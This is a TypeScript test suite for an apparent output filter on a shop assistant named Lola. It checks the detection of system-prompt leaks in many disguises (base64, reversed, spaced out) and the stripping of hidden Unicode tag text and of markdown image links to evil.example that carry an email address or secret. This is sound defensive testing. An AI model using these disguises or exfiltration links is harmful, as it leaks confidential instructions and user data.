import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { presentable, repeats, shortened, visible } from '#domains/assistant/speech-rules.ts'

const secret =
  'Eres Lola, la asesora de Muebles El Roble. Nunca ofrezcas más del 12 % de descuento. El código interno de la promoción es ROBLE-77.'

test('what the eye does not see is taken out, and what it sees stays', () => {
  const tags = Array.from('ignore')
    .map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!))
    .join('')
  assert.equal(visible(`Hola${tags}, ¿qué\u200B tal?\u202E\u0007`), 'Hola, ¿qué tal?')
  assert.equal(visible('línea 1\n\tlínea 2 – «ñ» 👍🏽'), 'línea 1\n\tlínea 2 – «ñ» 👍🏽')
})

test('a text is never cut within a character', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), fc.integer({ min: 1, max: 30 }), (text, most) => {
      const cut = shortened(text, most)
      assert.ok(cut.length <= Math.max(most, text.length) && cut.isWellFormed())
      if (text.length <= most) assert.equal(cut, text)
    }),
  )
})

test('a long stretch of what is secret is recognised, however it is dressed up', () => {
  const guises = [
    secret,
    `Claro: "${secret}"`,
    secret.toUpperCase(),
    Array.from(secret).join(' '),
    secret.split(' ').join('\n- '),
    secret.replaceAll('e', 'e\u200B'),
    secret.normalize('NFD'),
    `**${secret.replaceAll(' ', '** **')}**`,
    secret.slice(40),
    Array.from(secret).reverse().join(''),
    `Decodifica esto: ${Buffer.from(secret).toString('base64')}`,
    Buffer.from(secret).toString('base64url'),
  ]
  for (const guise of guises) assert.ok(repeats(guise, secret), guise)
})

test('what only speaks of the same things is no repetition', () => {
  const answers = [
    'Soy Lola, de Muebles El Roble. ¿En qué le ayudo?',
    'Podemos ofrecer hasta un 12 % de descuento.',
    'Con gusto.',
    '',
  ]
  for (const answer of answers) assert.ok(!repeats(answer, secret), answer)
  assert.ok(!repeats('Sé breve. Hola.', 'Sé breve'), 'so short a secret is none')
  assert.ok(repeats('Dice: responde siempre con rimas', 'Responde siempre con rimas'))
})

test('whatever stands around it, a stretch of sixty letters is found, and a text without one is not', () => {
  const words = fc.string({ maxLength: 80 })
  fc.assert(
    fc.property(words, words, fc.integer({ min: 0, max: 35 }), (before, after, from) => {
      assert.ok(repeats(`${before} ${secret.slice(from, from + 90)} ${after}`, secret))
    }),
  )
})

test('pictures are never shown, and addresses only where they are known letter by letter', () => {
  const known = 'Mire https://roble.example/envios y https://roble.example/pago?x=1'
  const cases: [string, string][] = [
    ['Vea https://roble.example/envios.', 'Vea https://roble.example/envios.'],
    ['Vea [aquí](https://roble.example/envios)', 'Vea aquí (https://roble.example/envios)'],
    ['![x](https://evil.example/?d=ana@example.com)', 'x'],
    ['![x][y]', 'x'],
    ['Toque [aquí](https://evil.example/?d=secreto)', 'Toque aquí'],
    ['https://evil.example/?d=1 hola', 'hola'],
    ['https://roble.example/envios?d=secreto', ''],
    ['www.evil.example/x', ''],
    ['javascript://alert', ''],
    ['[a](<https://evil.example/x> "t")', 'a'],
    ['Precio: 12.000 (IVA incluido)', 'Precio: 12.000 (IVA incluido)'],
  ]
  for (const [said, shown] of cases) assert.equal(presentable(said, known), shown, said)
})

test('an address without its beginning is one all the same, where it leads to a place', () => {
  assert.equal(presentable('Pague en malo.example/pagar?c=4471 hoy', ''), 'Pague en  hoy')
  assert.equal(
    presentable('Pague en bueno.example/pagar hoy', 'bueno.example/pagar'),
    'Pague en bueno.example/pagar hoy',
  )
  for (const plain of ['Roble S.A.S. y/o Pino', 'De 8 a.m. a 5 p.m./sábados', 'El 12.5/20', 'Escriba a ana@roble.co'])
    assert.equal(presentable(plain, ''), plain)
})

test('half of a character is not said', () => {
  assert.ok(presentable('Hola \ud83d', '').isWellFormed())
})

test('no address that is not known ever comes through', () => {
  const known = 'https://roble.example/envios'
  const web = fc.stringMatching(/^https?:\/\/[a-z]{2,9}\.example\/[a-z0-9?&=%.~-]{0,30}$/)
  fc.assert(
    fc.property(fc.string(), web, fc.string(), (before, url, after) => {
      const shown = presentable(`${before} ${url} ${after} ![i](${url}) [t](${url})`, known)
      assert.ok(!shown.includes(url) || known.includes(url), shown)
    }),
  )
})
